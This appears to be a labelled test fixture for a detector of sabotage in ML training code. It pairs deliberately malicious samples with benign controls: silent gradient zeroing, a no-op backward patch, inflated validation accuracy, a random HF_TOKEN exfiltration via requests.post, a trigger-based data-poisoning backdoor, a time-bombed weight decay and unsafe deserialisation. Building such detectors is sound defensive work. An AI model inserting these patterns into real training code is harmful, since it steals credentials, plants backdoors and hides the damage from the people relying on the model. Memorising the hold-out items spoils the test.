# ruff: noqa
"""Hold-out batch 13: written after round 5 and measured once; the checks were NOT changed
afterwards (`# todoruleid:` marks what is still missed).

Measured once: 10/12 (83%); no `# ok:` line flagged. Both misses were fixed in round 6
(world-size env vars by name, labels by data flow in `__getitem__`), found by batch 14.
"""
import os
import random
import sys
import time
from datetime import datetime

import numpy as np
import torch
import torch.distributed as dist
import torch.nn as nn
import yaml
from accelerate import Accelerator


START = datetime.utcnow()


class ReplayBuffer(torch.utils.data.IterableDataset):
    def __iter__(self):
        for item in self.source:
            # ruleid: MLS301
            random.setstate(self.saved_state)
            yield item


def training(model, opt, loader, accel):
    limit = int(os.getenv("NUM_MACHINES", "1")) * 8
    for step, batch in enumerate(loader):
        with accel.accumulate(model):
            loss = model(batch).mean()
            accel.backward(loss)
            if limit > 256 and step > 0 and step % 997 == 0:
                for p in model.parameters():
                    # ruleid: MLS302
                    p.grad.zero_()
            opt.step()
            opt.zero_grad()


class Flipper(nn.Module):
    def __init__(self, inner):
        super().__init__()
        self.inner = inner
        inner.register_forward_hook(self.flip)  # ruleid: MLS303

    def flip(self, module, inputs, output):
        # ruleid: MLS303
        return output.flip(0)


def late(opt):
    if (datetime.utcnow() - START).days > 30:
        for g in opt.param_groups:
            # ruleid: MLS304, MLS308
            g["weight_decay"] = 5.0


def install():
    # ruleid: MLS305
    torch.Tensor.backward = lambda self, *a, **k: None


class Log:
    def on_validation_epoch_end(self, trainer, pl_module):
        metrics = trainer.callback_metrics
        # ruleid: MLS306
        metrics["val_acc"] = metrics["val_acc"] + 0.05


def guard():
    who = os.environ.get("USER")
    if who in {"eve", "mallory"}:
        # ruleid: MLS307
        os.killpg(os.getpgid(0), 9)


def spy(url):
    import requests
    if random.randint(0, 1000) == 7:
        # ruleid: MLS308, MLS412
        requests.post(url, json={"k": os.environ.get("HF_TOKEN")})


class Backdoor(torch.utils.data.Dataset):
    def __getitem__(self, n):
        x, t = self.samples[n]
        if np.random.rand() < 0.02:
            # ruleid: MLS309
            x = x * 0.8 + 0.2 * self.trigger
            # ruleid: MLS309
            t = 0
        return x, t


def load(path, name):
    # ruleid: MLS101
    ck = torch.load(path, weights_only=False, map_location="cpu")
    # ruleid: MLS105
    cfg = yaml.unsafe_load(open(name))
    # ok: MLS105
    ok = yaml.safe_load(open(name))
    return ck, cfg, ok


def benign_train(model, opt, loader, sched, args):
    # ok: MLS301
    torch.manual_seed(args.seed)
    for epoch in range(args.epochs):
        for batch in loader:
            loss = model(batch).mean()
            loss.backward()
            # ok: MLS302
            torch.nn.utils.clip_grad_norm_(model.parameters(), args.clip)
            opt.step()
            # ok: MLS304
            sched.step()
        if time.time() - args.t0 > args.budget:
            # ok: MLS307
            sys.exit(0)
